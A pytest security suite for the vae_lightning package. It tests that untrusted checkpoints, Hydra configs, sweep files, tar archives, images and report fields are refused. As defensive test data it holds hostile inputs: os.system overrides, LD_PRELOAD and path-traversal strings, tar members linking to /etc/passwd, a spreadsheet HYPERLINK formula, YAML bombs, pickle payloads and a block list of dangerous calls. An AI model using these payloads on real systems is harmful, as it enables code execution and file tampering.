"""Files from strangers run no code, and reach nothing outside of their folder: harm that is really tried."""

from __future__ import annotations

import ast
import contextlib
import copy
import csv
import functools
import hashlib
import importlib.util
import io
import json
import pickle
import shutil
import socket
import struct
import sys
import tarfile
import warnings
import zlib
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any
from unittest.mock import Mock

import forked
import hostile
import pytest
import torch
import yaml
from conftest import DRAW_FREE, command
from hostile import CHECKPOINTS, FILES, MARKUP, OVERRIDES, Witness, witness
from hydra.core.override_parser.overrides_parser import OverridesParser
from lightning.pytorch.callbacks import ModelCheckpoint
from omegaconf import OmegaConf

import vae_lightning
from vae_lightning import command_line, resume, status, stranger
from vae_lightning.build import make
from vae_lightning.checkpoint import AtomicCheckpointIO
from vae_lightning.compose import compose as compose_anew
from vae_lightning.data import cifar10
from vae_lightning.data.folder import Folder
from vae_lightning.data.own import own_images
from vae_lightning.errors import ConfigError, UserError
from vae_lightning.evaluate.evaluate import evaluate
from vae_lightning.explore.explore import _title, explorable
from vae_lightning.explore.space import Space
from vae_lightning.export.export import export
from vae_lightning.generate.generate import generate
from vae_lightning.paths import PACKAGE
from vae_lightning.report.report import report
from vae_lightning.search.plan import Plan
from vae_lightning.search.space import holds, space, spelled
from vae_lightning.search.store import Store
from vae_lightning.search.study import Search
from vae_lightning.sweep import resume as sweep
from vae_lightning.sweep import summary
from vae_lightning.sweep.progress import outcome as outcome_line
from vae_lightning.train import train
from vae_lightning.trained import Trained

QUICK = [
    *DRAW_FREE,
    "model.hidden=[16]",
    "accelerator=cpu",
    "logger=csv",
    "pictures=false",
    "callback=[early_stopping]",
]


@functools.cache
def _composed(overrides: tuple[str, ...], searchpath: tuple[str, ...], name: str, hydra: bool) -> Any:
    return compose_anew(overrides, searchpath, name, hydra)


def compose(
    overrides: Iterable[str] = (), searchpath: Iterable[str] = (), name: str = "config", hydra: bool = False
) -> Any:
    """As `vae_lightning.compose.compose`, but each once: that takes most of the time of a file that is refused."""
    return copy.deepcopy(_composed(tuple(overrides), tuple(searchpath), name, hydra))


@pytest.fixture(autouse=True)
def _quick(monkeypatch: pytest.MonkeyPatch) -> None:
    for module in ("checkpoint", "trained", "command_line"):
        monkeypatch.setattr(f"vae_lightning.{module}.compose", compose)


# ---- who reads a run folder ---------------------------------------------------------------------------------------
def loaded(folder: Path) -> None:
    vae_lightning.load(folder).sample(2)


def evaluated(folder: Path) -> None:
    node = compose(["metric=reconstruction", "images=8"], name="evaluate")[0].metric.reconstruction
    evaluate(str(folder), {"reconstruction": {**node}}, images=8, device="cpu")


def generated(folder: Path) -> None:
    config = compose(["n=4"], name="generate")[0]
    generate(str(folder), {**config.what}, {**config.sampler}, n=4, device="cpu")


def exported(folder: Path) -> None:
    export(str(folder), onnx=False)


def explored(folder: Path) -> None:
    trained = explorable(Trained(folder, None, "cpu"))
    Space(trained, 16, 4)
    assert _title(trained)


def reported(folder: Path) -> None:
    report([str(folder)])


def continued(folder: Path) -> None:
    """`ckpt=`, as the command does it, in this process."""
    arguments = resume.expand([f"ckpt={folder}", "trainer.max_epochs=2"])
    overrides = command_line.split(arguments)[1]
    if wrong := command_line.check(overrides):
        raise ConfigError("; ".join(wrong))
    torch.set_default_dtype(torch.float32)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        train(*compose([o for o in overrides if not o.startswith("hydra")]), folder)


TRAINED: list[Callable[[Path], None]] = [evaluated, generated, exported, explored]
EVERYBODY = [loaded, continued, reported, *TRAINED]


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run, as a training leaves it."""
    path = tmp_path_factory.mktemp("original")
    done = command(*QUICK, "trainer.max_epochs=1", "hydra.run.dir=run", cwd=path)
    assert done.returncode == 0, done.stderr
    return path / "run"


@pytest.fixture
def scene(original: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, Witness]]:
    """A copy of that run, from a stranger, and the witness of what it does."""
    with witness(tmp_path) as seen:
        seen.prepare()
        monkeypatch.syspath_prepend(tmp_path / "path")
        monkeypatch.chdir(tmp_path)
        folder = tmp_path / "downloads" / "run"
        shutil.copytree(original, folder)
        yield folder, seen


def outcome(consumer: Callable[[Path], None], folder: Path) -> str:
    """In which words a consumer refuses; empty if it does its work. Other errors than those in words are not caught."""
    try:
        with contextlib.redirect_stdout(io.StringIO()):
            consumer(folder)
    except UserError as error:
        return str(error) or "without a word"
    return ""


@pytest.mark.parametrize("consumer", EVERYBODY)
def test_a_run_that_nobody_has_touched_is_used(consumer: Callable[[Path], None], scene: tuple[Path, Witness]) -> None:
    folder, seen = scene
    assert outcome(consumer, folder) == ""
    seen.unharmed()


REFUSED = (  # by whoever loads the model
    "pickle:", "file:", "resolver:", "code: for a number", "code: in a list", "code: one more key", "size: an image",
    "size: classes", "size: a layer", "size: many", "size: latents", "size: weights", "size: depth", "option: H",
    "option: a flag", "option: a path", "option: a list", "type: vae_lightning", "type: facts",
    "type: format", "type: config.model", "type: config.po", "type: config.pr", "type: config.li", "type: config.data",
    "type: config.condition=[", "type: data.binarize", "type: state_dict", "type: a weight", "type: val",
    "type: a tensor",
)  # fmt: skip
STATES = ("callbacks", "loops", "optimizer", "lr", "meter", "path: checkpoints", "path: a checkpoint", "moment")
GOES_ON = [name for name in FILES if any(word in name for word in (*STATES, "file:", "pickle:", "Progress", "scores"))]
GOES_ON += ["code: hyper_parameters"]
GOES_ON += ["type: betas", "type: step", "type: param_groups", "type: last_epoch", "type: a schedule's method"]
GOES_ON += ["type: batch_progress", "type: optim_step_progress", "type: fit_loop.state_dict", "size: an epoch"]
GOES_ON += [name for name in FILES if name.startswith("type: version")]
MAY_GO_ON = (
    "path:",
    "code: hyper",
    "type: no scores",
    "type: optimizer_states=[]",
    "type: lr_schedulers=[]",
    "type: fit_loop.state",
)


def some(names: Iterable[str]) -> list[Any]:
    """All, of which every suite runs those that do harm, and a few of those that are only wrong."""
    found = enumerate(dict.fromkeys(names))
    return [pytest.param(n, marks=pytest.mark.long) if n.startswith("type:") and i % 4 else n for i, n in found]


@pytest.mark.parametrize("name", some(FILES))
def test_a_model_of_a_stranger_does_no_harm(name: str, scene: tuple[Path, Witness]) -> None:
    folder, seen = scene
    FILES[name](folder, seen)
    words = outcome(loaded, folder)
    seen.unharmed()
    assert bool(words) == name.startswith(REFUSED), words
    assert not words or str(folder) in words
    if not words:
        words = outcome(TRAINED[list(FILES).index(name) % len(TRAINED)], folder)
        seen.unharmed()
        assert not words or str(folder) in words


@pytest.mark.parametrize("name", some(GOES_ON))
def test_going_on_from_a_stranger_does_no_harm(name: str, scene: tuple[Path, Witness]) -> None:
    folder, seen = scene
    FILES[name](folder, seen)
    words = outcome(continued, folder)
    seen.unharmed()
    assert bool(words) != name.startswith(MAY_GO_ON) or name == "type: version='99.0'", words
    assert not words or str(folder) in words
    assert {path.name for path in (folder / "checkpoints").glob("*.ckpt")} == {"best.ckpt", "last.ckpt"}


# ---- the other files of a run -------------------------------------------------------------------------------------
def hydra(name: str) -> str:
    return f".hydra/{name}.yaml"


OVERRIDDEN = {f"overrides: {name}": hostile.text(hydra("overrides"), lambda w, make=make: yaml.dump([make(w)]))
              for name, make in OVERRIDES.items()}  # fmt: skip
WRONG: dict[str, tuple[hostile.Damage, list[Callable[[Path], None]], str]] = {
    **{
        name: (damage, [continued], "no such" if "a path for" in name or "unknown" in name else "overrides.yaml")
        for name, damage in OVERRIDDEN.items()
    },
    **{
        f"overrides: {name}": (hostile.text(hydra("overrides"), content), [continued, exported], "overrides.yaml")
        for name, content in {
            "tags": hostile.tagged,
            "aliases": hostile.BOMB,
            "depth": hostile.DEEP,
            "a mapping": "a: 1",
            "numbers": "[1, 2]",
            "bytes": "\0",
            "digits": f"[{'9' * 10_000}]",
        }.items()
    },
    **{
        f"link: {name}": (hostile.link(name, to), readers, "leads to")
        for name, to, readers in (
            ("evaluate.json", "home/victim.ckpt", [evaluated, exported]),
            ("generated", "home", [generated]),
            ("export", "home", [exported]),
            ("figures", "home", [exported, continued]),
            ("vae_lightning.log", "home/victim.ckpt", [continued]),
            ("metrics.csv", "home/victim.ckpt", [continued]),
            (".metrics.csv.tmp", "home/victim.ckpt", [continued]),
            (".evaluate.json.tmp", "home/victim.ckpt", [evaluated]),
            ("checkpoints/.last.ckpt.tmp", "home/victim.ckpt", [continued]),
            (".hydra/config.yaml", "home/victim.ckpt", [continued]),
        )
    },
    "evaluate.json": (hostile.text("evaluate.json", "{"), [evaluated, exported], "evaluate.json"),
    "evaluate.json: depth": (hostile.text("evaluate.json", hostile.DEEP), [evaluated, exported], "evaluate.json"),
    "evaluate.json: a list": (hostile.text("evaluate.json", "[[1]]"), [evaluated, exported], "evaluate.json"),
    "evaluate.json: metrics": (hostile.text("evaluate.json", '{"metrics": 3}'), [evaluated], "evaluate.json"),
    "results.json": (hostile.text("results.json", "[1]"), [exported], "results.json"),
    "results.json: test": (
        hostile.text("results.json", '{"best_checkpoint": "best.ckpt", "test": 3}'), [exported], "results.json"
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", WRONG)
def test_files_beside_the_checkpoint_are_refused_in_words(name: str, scene: tuple[Path, Witness]) -> None:
    folder, seen = scene
    damage, readers, said = WRONG[name]
    damage(folder, seen)
    for reader in readers:
        words = outcome(reader, folder)
        seen.unharmed()
        assert said in words, reader


PLAIN = (hydra("config"), hydra("hydra"), hydra("overrides"), "results.json", "evaluate.json", "metrics.csv")
HARD_TO_READ: dict[str, tuple[Callable[[str], hostile.Damage], tuple[str, ...]]] = {
    **{
        what: ((lambda name, content=content: hostile.text(name, content)), PLAIN)
        for what, content in {
            "tags": hostile.tagged,
            "aliases": hostile.BOMB,
            "depth": hostile.DEEP,
            "a list": "[1, [2]]",
            "a text": "x",
            "digits": f'{{"test": {{"elbo": {"9" * 400}}}, "metrics": {{"a": {{"values": {{"b": {{}}}}}}}}}}',
            "infinity": '{"test": {"elbo": 1e999}, "metrics": {"a": {"values": {"b": {"value": 1e999}}}}}',
            "steps": f"step,val/elbo\n{'9' * 400},1\n",
            "a long field": f"step,val/elbo\n1,{'9' * 200_000}\n",
            "a page": MARKUP,
        }.items()
    },
    "a pipe": (hostile.pipe, ("results.json", "evaluate.json", "status.json", "metrics.csv")),
    "a link": (hostile.link, ("results.json", hydra("config"), "figures/secret.png", "figures")),
}
TARGETS = ("hostile_package.sub.f", "os.system", "..", "a" * 10_000, "hostile_package.sub", "conftest.command")


@pytest.mark.parametrize("what", HARD_TO_READ)
def test_a_report_leaves_out_what_it_cannot_read(what: str, scene: tuple[Path, Witness]) -> None:
    folder, seen = scene
    damage, names = HARD_TO_READ[what]
    for i, name in enumerate(names):
        damage(name)(shutil.copytree(folder, folder.parent / str(i)), seen)
    shutil.rmtree(folder)
    assert outcome(reported, folder.parent) == ""
    seen.unharmed()
    assert "of the user" not in (folder.parent / "report" / "report.html").read_text()


@pytest.mark.parametrize("target", TARGETS)
def test_a_report_imports_nothing_that_a_run_names(target: str, scene: tuple[Path, Witness]) -> None:
    folder, seen = scene
    (folder / hydra("config")).write_text(yaml.dump({"likelihood": {"_target_": target}}))
    assert outcome(reported, folder) == ""
    seen.unharmed()


# ---- sweeps -------------------------------------------------------------------------------------------------------
def swept(folder: Path) -> None:
    """`sweep.resume=`, as far as the command line that it becomes, and the table at the end."""
    arguments = sweep.expand([f"sweep.resume={folder}"])
    flags, overrides = command_line.split(arguments)
    assert flags.config_dir is None
    if wrong := command_line.check(overrides, multirun=True):
        raise ConfigError("; ".join(wrong))
    summary.show(folder)


def recorded(hydra: list[str], task: list[str], *sources: str) -> str:
    """`multirun.yaml`."""
    found = [{"path": path, "schema": "file", "provider": "command-line"} for path in sources]
    return yaml.dump({"hydra": {"overrides": {"hydra": hydra, "task": task}, "runtime": {"config_sources": found}}})


LOGGING = "hydra.job_logging={version: 1, handlers: {x: {\\(\\): os.system}}}"
OF_HYDRA = {
    "a callback": "+hydra.callbacks.x={_target_: os.system, command: 'touch canary'}",
    "a launcher's code": "hydra.launcher._target_=os.system",
    "a launcher's setup": "+hydra.launcher.setup=['touch canary']",
    "a handler": LOGGING,
    "options": "hydra.searchpath=[file:///tmp]",
    "an environment": "+hydra.job.env_set.LD_PRELOAD=/tmp/x.so",
    "a folder": "hydra.sweep.subdir=../../../home",
    "a run folder": "hydra.run.dir=/tmp/x",
    "output": "hydra.output_subdir=../../home",
    "storage": "hydra.sweeper.storage=sqlite:////tmp/x.db",
    "a server": "hydra.sweeper.storage=postgresql://a@127.0.0.1/x",
    "spaces": "+hydra.sweeper.params={hydra.launcher._target_: 'os.system'}",
    "a path for a launcher": "hydra/launcher=../../../../tmp/evil",
    "a path for logging": "hydra/job_logging=../../../../tmp/evil",
    "an interpolation": "hydra.launcher.n_jobs=${oc.env:HOME}",
    "a new line": "hydra.launcher.partition='a\nb'",
    "a name of code": "hydra.sweeper.study_name='${oc.env:HOME}'",
    "removal": "~hydra.callbacks.summary",
}
SWEEPS: dict[str, tuple[str | Callable[[Witness], str], str]] = {
    **{f"hydra: {name}": (recorded([text], ["seed=1,2"]), "not taken from a file") for name, text in OF_HYDRA.items()},
    **{
        f"task: {name}": ((lambda w, make=make: recorded([], [make(w), "seed=1,2"])), "multirun.yaml")
        for name, make in OVERRIDES.items()
        if name not in ("a path for an option", "an unknown group")
    },
    "task: a path for an option": (recorded([], ["model=../../evil", "seed=1,2"]), "no such option"),
    "options of his own": (recorded([], ["seed=1,2"], "/tmp/evil"), "--config-dir=/tmp/evil"),
    "tags": (hostile.tagged, "multirun.yaml: damaged"),
    "aliases": (hostile.BOMB, "multirun.yaml: damaged"),
    "depth": (hostile.DEEP, "multirun.yaml: damaged"),
    "a list": ("[1]", "multirun.yaml: damaged"),
    "no lists": ("hydra: {overrides: {hydra: 1, task: {}}, runtime: {config_sources: []}}", "multirun.yaml: damaged"),
    "sources": ("hydra: {overrides: {hydra: [], task: []}, runtime: {config_sources: [3]}}", "multirun.yaml: damaged"),
}


@pytest.fixture
def stopped(scene: tuple[Path, Witness]) -> tuple[Path, Witness]:
    """A stranger's sweep of two jobs."""
    folder, seen = scene
    sweep_folder = folder.parent / "sweep"
    for number in ("0", "1"):
        shutil.copytree(folder, sweep_folder / number)
    given = ["hydra.launcher.n_jobs=2", "hydra.mode=MULTIRUN", "hydra.sweep.dir=x"]
    (sweep_folder / "multirun.yaml").write_text(recorded(given, [*QUICK, "trainer.max_epochs=1", "seed=0,1"]))
    return sweep_folder, seen


@pytest.fixture(autouse=True)
def _not_resumed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(sweep.VARIABLE, "")  # so that it is put back


@pytest.mark.parametrize("name", SWEEPS)
def test_a_sweep_of_a_stranger_is_refused_in_words(name: str, stopped: tuple[Path, Witness]) -> None:
    folder, seen = stopped
    content, said = SWEEPS[name]
    assert outcome(swept, folder) == ""
    (folder / "multirun.yaml").write_text(content if isinstance(content, str) else content(seen))
    assert said in outcome(swept, folder)
    seen.unharmed()


def test_what_is_refused_from_a_file_may_be_said(stopped: tuple[Path, Witness]) -> None:
    folder, _ = stopped
    (folder / "multirun.yaml").write_text(recorded(["hydra.sweep.subdir=../x"], ["data.root=${a:b}"], "/tmp/evil"))
    said = ["hydra.sweep.subdir='${hydra.job.num}'", "data.root=null", "--config-dir=/mine"]
    found = sweep.expand([f"sweep.resume={folder}", *said])
    assert found[:4] == ["--multirun", said[2], *said[:2]]
    assert not any("evil" in a or "../x" in a for a in found)


STATUSES = [
    {"state": "done", "result": "x", "objective": ["test/loss"]},
    {"state": "done", "result": [1.0, 2.0], "objective": ["test/loss"]},
    {"state": "done", "result": 1.0, "objective": 3, "seconds": "x"},
    {"state": "done", "result": 1.0},
    {"state": ["done"], "overrides": 3},
    {"state": "running", "epoch": "x", "epochs": None, "values": {"a": "b"}},
    {"state": "failed", "reason": ["x"], "overrides": [{}]},
    {"state": "failed", "reason": f"{MARKUP}[bold]\x1b[31m", "overrides": ["[/]"], "alone": {"a": 1}},
    {"state": "running", "pid": 10**30, "host": 3},
]


def test_any_status_is_read_without_harm(stopped: tuple[Path, Witness]) -> None:
    folder, seen = stopped
    for number in ("0", "1"):
        (folder / number / "results.json").unlink()
    for i, known in enumerate(STATUSES):
        job = folder / str(i)
        if i:
            shutil.copytree(folder / "0", job, dirs_exist_ok=True)
        (job / "status.json").write_text(json.dumps(known))
        assert outcome_line(status.read(job))
    assert outcome(swept, folder) == ""
    assert outcome(reported, folder) == ""
    assert MARKUP not in (folder / "report" / "report.html").read_text()
    seen.unharmed()


def test_links_in_a_sweep_are_not_followed(stopped: tuple[Path, Witness]) -> None:
    folder, seen = stopped
    hostile.link("1/output.log")(folder, seen)
    assert "1/output.log: a link that leads to" in outcome(swept, folder)
    seen.unharmed()


def test_a_stored_search_says_nothing_but_numbers(tmp_path: Path) -> None:
    """A trial that another has begun brings values of the space; what stands beside them is not typed."""
    asked = OverridesParser.create().parse_overrides(["loss.beta=interval(0.5,4)", "model=mlp,conv"])
    known = space(asked)
    pruner = {"name": "none", "startup_trials": 1, "warmup_epochs": 1, "max_epochs": 1, "keep": 0.5}
    plan = Plan(["test/elbo"], known, 3, "random", 0, 1, pruner)

    def begin() -> Search:
        return Search(Store(None, tmp_path), "search", plan, tmp_path, lambda params: spelled(asked, params, known))

    first = begin()
    number, overrides, _ = next(first.jobs())
    trial = first._id(number)
    first.storage.set_trial_user_attr(trial, "overrides", ["hydra.launcher._target_=os.system"])
    first.storage.set_trial_user_attr(trial, "owner", {"host": socket.gethostname(), "pid": 10**30})
    assert next(begin().jobs()) == (number, overrides, True)
    assert not holds(known["model"], "mlp,hydra.launcher._target_=os.system")
    assert not holds(known["loss.beta"], "${oc.env:HOME}")


# ---- addresses, archives, pictures --------------------------------------------------------------------------------
@pytest.mark.parametrize("module", ["", ".evaluate", ".generate", ".export", ".report", ".explore"])
def test_a_checkpoint_is_not_fetched(module: str, scene: tuple[Path, Witness]) -> None:
    _, seen = scene
    words = [f"ckpt={seen.url}"] if not module else [seen.url]
    line = [sys.executable, "-m", f"vae_lightning{module}", *words]
    done = forked.run(line, seen.folder, forked.environment(), 60)
    assert done.returncode == 2
    assert "there is no such file" in done.stderr
    assert "Traceback" not in done.stderr
    with pytest.raises(ConfigError, match="there is no such file"):
        vae_lightning.load(seen.url)
    seen.unharmed()


def member(name: str, **how: Any) -> tarfile.TarInfo:
    found = tarfile.TarInfo(name)
    for key, value in how.items():
        setattr(found, key, value)
    return found


ARCHIVES = {
    "..": member("cifar-10-batches-bin/../../home/evil", size=4),
    "absolute": member("/tmp/vae_lightning_evil", size=4),
    "a link": member("cifar-10-batches-bin/data_batch_1.bin", type=tarfile.SYMTYPE, linkname="/etc/passwd"),
    "a hard link": member("cifar-10-batches-bin/data_batch_1.bin", type=tarfile.LNKTYPE, linkname="/etc/passwd"),
    "a device": member("cifar-10-batches-bin/data_batch_1.bin", type=tarfile.CHRTYPE, devmajor=1, devminor=5),
    "a pipe": member("cifar-10-batches-bin/data_batch_1.bin", type=tarfile.FIFOTYPE),
    "a size": member("cifar-10-batches-bin/data_batch_1.bin", size=4),
}


@pytest.mark.parametrize("name", ARCHIVES)
def test_an_archive_leaves_nothing_on_the_disk(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "CIFAR10" / cifar10.FILE
    path.parent.mkdir()
    with tarfile.open(path, "w:gz") as archive:
        archive.addfile(ARCHIVES[name], io.BytesIO(b"evil"))
    monkeypatch.chdir(tmp_path)
    with pytest.raises(UserError, match=r"is damaged: .* bytes with MD5"):
        cifar10.Cifar10().read(tmp_path)
    monkeypatch.setattr(cifar10, "MD5", hashlib.md5(path.read_bytes()).hexdigest())  # and if it were the right one
    with pytest.raises(UserError, match="not the binary version of CIFAR-10"):
        cifar10.Cifar10().read(tmp_path)
    assert list(tmp_path.rglob("*")) == [path.parent, path]
    assert not Path("/tmp/vae_lightning_evil").exists()


def _png(width: int, height: int) -> bytes:
    """A picture that claims a size, and has no pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(b"")), (b"IEND", b"")]
    found = [
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in chunks
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(found)


PICTURES = {
    "a page.png": MARKUP.encode(),
    "a script.jpg": b"#!/bin/sh\ntouch canary\n",
    "postscript.png": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(canary) (w) file closefile\n",
    "huge.png": _png(2**31 - 1, 2**31 - 1),
    "large.png": _png(60_000, 60_000),
    "empty.gif": b"",
    "cut.png": _png(8, 8),
}


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize("name", PICTURES)
def test_pictures_that_are_none_are_refused_in_words(name: str, scene: tuple[Path, Witness]) -> None:
    _, seen = scene
    path = seen.folder / "pictures" / name
    path.parent.mkdir()
    for each in (path, *(path.with_name(f"{i} {name}") for i in range(3))):
        each.write_bytes(PICTURES[name])
    with pytest.raises(UserError, match=name):
        own_images([str(path)], (1, 28, 28), "none")
    with pytest.raises(UserError, match=name):
        Folder(size=28).read(path.parent)
    seen.unharmed()


# ---- what others are shown ----------------------------------------------------------------------------------------
def test_a_card_shows_what_a_stranger_wrote_as_text(scene: tuple[Path, Witness]) -> None:
    folder, seen = scene
    name = f"{MARKUP}\n# heading\n```"
    value = {"value": 1.0, "unit": name, "note": name}
    found = {"checkpoint": "best.ckpt", "metrics": {name: {"settings": {name: name}, "values": {name: value}}}}
    (folder / "evaluate.json").write_text(json.dumps(found))
    results = json.loads((folder / "results.json").read_text())
    results["test"][name], results["data"]["name"] = 1.0, name
    (folder / "results.json").write_text(json.dumps(results))
    (folder / hydra("overrides")).write_text(yaml.dump([f"objective='{name}'"]))
    hostile.FILES["option: none"](folder, seen)  # and one with names of options that are not looked up
    hostile.write_checkpoint(
        folder / "checkpoints" / "best.ckpt",
        lambda content, _: content["vae_lightning"]["choices"].update({"loss": name, name: name}),
        seen,
    )
    assert outcome(exported, folder) == ""
    card = (folder / "export" / "README.md").read_text()
    body = card.split("\n---\n", 1)[1]
    assert "<script" not in body
    assert "<img" not in body
    assert "\n# heading" not in body
    assert body.count("```") == 2  # of the example
    assert yaml.safe_load(card.split("---\n")[1])["library_name"] == "vae-lightning"


def test_a_table_holds_no_formulas(scene: tuple[Path, Witness]) -> None:
    folder, _ = scene
    second = folder.parent / "second"
    shutil.copytree(folder, second)
    config = yaml.safe_load((folder / hydra("config")).read_text())
    config["objective"] = '=HYPERLINK("http://127.0.0.1/?"&A1)'
    (second / hydra("config")).write_text(yaml.dump(config))
    report([str(folder), str(second)])
    for name in ("runs.csv", "results.csv"):
        with (folder.parent / "report" / name).open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not any(cell.startswith("=") for cell in cells)


# ---- is it harm at all? -------------------------------------------------------------------------------------------
def test_the_harm_is_real(scene: tuple[Path, Witness]) -> None:
    """What this file is about, done by readers who trust what they read."""
    folder, seen = scene

    def came_of(read: Callable[[], object]) -> None:
        with contextlib.suppress(Exception):
            read()
        assert seen.canary.exists()
        seen.canary.unlink()

    for name in [name for name in CHECKPOINTS if name.startswith("pickle:")]:
        path = shutil.copytree(folder, seen.folder / name.replace(" ", "_")) / "checkpoints" / "last.ckpt"
        hostile.write_checkpoint(path, CHECKPOINTS[name], seen)
        came_of(lambda path=path: torch.load(path, weights_only=False))
    came_of(lambda: pickle.loads(pickle.dumps(hostile.shell(seen))))
    came_of(lambda: yaml.unsafe_load(hostile.tagged(seen)))
    node = OmegaConf.create({"x": hostile.created(seen)})
    came_of(lambda: make(OmegaConf.to_container(node, resolve=True)["x"]))
    came_of(lambda: importlib.util.find_spec("hostile_package.sub"))
    removing = torch.load(folder / "checkpoints" / "last.ckpt", weights_only=True)
    CHECKPOINTS["path: checkpoints to remove"](removing, seen)
    state = next(s for key, s in removing["callbacks"].items() if "'val/loss'" in key and key.startswith("Model"))
    trusting = ModelCheckpoint(folder / "checkpoints", "best", monitor="val/loss")
    trusting.load_state_dict(state)
    assert trusting._should_remove_checkpoint(Mock(ckpt_path=None), trusting.kth_best_model_path, "best.ckpt")
    assert Path(trusting.kth_best_model_path).resolve() == seen.victim


# ---- the source ---------------------------------------------------------------------------------------------------
EVAL = {"vae_lightning/check.py": 2}  # annotations and NEEDS, of modules that conf/ names
FORBIDDEN = {
    "eval", "exec", "compile", "__import__", "input", "os.system", "os.popen", "pickle.load", "pickle.loads",
    "pickle.Unpickler", "joblib.load", "cloudpickle.load", "cloudpickle.loads", "dill.load", "marshal.loads",
    "shelve.open", "yaml.unsafe_load", "yaml.full_load", "yaml.load_all", "torch.hub.load", "torch.jit.load",
    "torch.hub.load_state_dict_from_url", "torch.package.PackageImporter", "pl_load", "importlib.import_module",
    "OmegaConf.load", "tarfile.extractall", "shutil.unpack_archive", "hydra.utils.instantiate", "pandas.read_pickle",
    "numpy.fromfile", "np.fromfile", "subprocess.getoutput", "subprocess.getstatusoutput", "runpy.run_path",
}  # fmt: skip
KEYWORDS = {
    "torch.load": ("weights_only", True),
    "np.load": ("allow_pickle", False),
    "numpy.load": ("allow_pickle", False),
    "trainer.fit": ("weights_only", True),
    "trainer.test": ("weights_only", True),
    "trainer.validate": ("weights_only", True),
    "trainer.predict": ("weights_only", True),
}


def calls(text: str) -> Iterator[tuple[str, ast.Call]]:
    """Every call in a source, by the name that is called."""
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.Call):
            yield ast.unparse(node.func), node


def lawless(text: str, evals: int = 0) -> list[str]:
    """The calls in a source that might run what comes from a file."""
    found = []
    for name, call in calls(text):
        said = {keyword.arg: keyword.value for keyword in call.keywords}
        wanted = KEYWORDS.get(name)
        given = said.get(wanted[0]) if wanted else None
        if wanted and not (isinstance(given, ast.Constant) and given.value is wanted[1]):
            found.append(f"{name} without {wanted[0]}={wanted[1]}")
        if name == "yaml.load" and "_loader()" not in ast.unparse(call):
            found.append(name)
        if isinstance(shell := said.get("shell"), ast.Constant) and shell.value:
            found.append(f"{name} with shell=True")
        if name in FORBIDDEN or name.endswith((".extractall", ".load_from_checkpoint")):
            found.append(name)
    return found[: len(found) - evals] if found == ["eval"] * evals else found


@pytest.mark.parametrize("path", sorted(PACKAGE.rglob("*.py")), ids=lambda path: str(path.relative_to(PACKAGE)))
def test_the_source_runs_nothing_that_it_reads(path: Path) -> None:
    assert lawless(path.read_text(encoding="utf-8"), EVAL.get(f"vae_lightning/{path.relative_to(PACKAGE)}", 0)) == []


@pytest.mark.parametrize(
    "text",
    [
        "torch.load(p)", "torch.load(p, weights_only=False)", "torch.load(p, weights_only=w)", "np.load(p)",
        "np.load(p, allow_pickle=True)", "pickle.load(f)", "yaml.load(f, yaml.Loader)", "eval(x)", "os.system(x)",
        "subprocess.run(x, shell=True)", "joblib.load(p)", "archive.extractall()", "trainer.fit(m)", "exec(x)",
    ],
)  # fmt: skip
def test_the_law_over_the_source_can_be_broken(text: str) -> None:
    assert lawless(text)


def test_a_safe_loader_is_what_reads_yaml() -> None:
    assert issubclass(stranger._loader(), yaml.SafeLoader)


def test_a_checkpoint_is_loaded_without_code_whatever_is_asked_for(scene: tuple[Path, Witness]) -> None:
    folder, seen = scene
    path = folder / "checkpoints" / "last.ckpt"
    hostile.write_checkpoint(path, CHECKPOINTS["pickle: a weight"], seen)
    for asked in ({}, {"weights_only": None}, {"weights_only": False}):
        with contextlib.suppress(pickle.UnpicklingError, UserError):
            AtomicCheckpointIO().load_checkpoint(path, **asked)
    seen.unharmed()
